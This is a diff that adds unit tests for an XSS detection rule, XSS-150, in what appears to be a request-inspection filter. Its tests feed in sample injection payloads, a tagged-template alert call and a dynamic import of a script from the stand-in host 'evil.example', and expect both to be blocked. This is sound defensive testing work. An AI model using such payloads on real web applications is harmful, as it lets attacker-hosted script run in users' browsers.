@@ -135,3 +135,20 @@ describe('XSS-140 markup break-out', () => {
     expect(decision.ruleIds).not.toContain('XSS-140');
   });
 });
+
+describe('XSS-150 script sinks', () => {
+  it('blocks a sink called as a tagged template at sensitivity 70', () => {
+    const decision = inspectRequest(balanced, json({ name: 'x`;alert`1`' }));
+    expect(decision.ruleIds).toContain('XSS-150');
+  });
+
+  it('blocks a dynamic import of a remote module at sensitivity 70', () => {
+    const decision = inspectRequest(balanced, json({ name: "import('//evil.example/x.js')" }));
+    expect(decision.ruleIds).toContain('XSS-150');
+  });
+
+  it('allows "import" before the closing backtick of inline code in prose', () => {
+    const decision = inspectRequest(balanced, json({ body: 'Resources made outside need `cdk import` first.' }));
+    expect(decision.ruleIds).not.toContain('XSS-150');
+  });
+});
